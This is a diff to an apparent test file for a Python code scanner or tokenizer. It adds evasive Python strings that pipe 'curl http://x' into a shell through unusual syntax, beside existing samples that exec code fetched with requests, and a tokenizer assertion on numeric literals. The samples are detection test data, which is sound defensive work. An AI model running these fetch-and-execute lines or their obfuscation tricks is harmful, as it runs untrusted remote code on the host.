@@ -41,6 +41,8 @@ const FETCHED = [
   "import os\nf'\\{{'; os.system('curl http://x | sh') #}'",
   'import os\nf\'\\N{LEFT CURLY BRACKET}{os.system("curl http://x | sh")}\'',
   "import os\nos.\\\rsystem('curl http://x | sh')",
+  "import os\n1and(os.system)('curl http://x | sh')",
+  "import os\n0x1for(os.system)('curl http://x | sh')",
   "import os, threading\nthreading.Thread(target=os.system, args=('curl http://x | sh',)).start()",
   'import requests\nexec(requests.get(u).text)',
   'import requests\ndef f():\n    code = requests.get(u)\n    made = compile(code.text, "a", "exec")\n    exec(made)\n',
@@ -288,6 +290,9 @@ it('a text ends where Python ends it', () => {
   assert.deepEqual(words("a = 'open\nb = 1"), ['a = open', 'b = 1']);
   assert.deepEqual(words('"\\x6f\\163" r"\\"" c'), ['os \\" c']);
   assert.deepEqual(words('(a,\n b)\nc \\\n d'), ['( a , b )', 'c d']);
+  assert.deepEqual(words('1_0.5e-3j+0xFFor 1if 0b1else 2.real'), [
+    '1_0.5e-3j + 0xFF or 1 if 0b1 else 2. real',
+  ]);
   assert.deepEqual(words('r"\\\r\n" b\r\nc'), ['\\\r\n b', 'c']);
   assert.deepEqual(words('f"\\{x}" + rf"\\{y}{{"'), ['\\ + \\{']);
 });
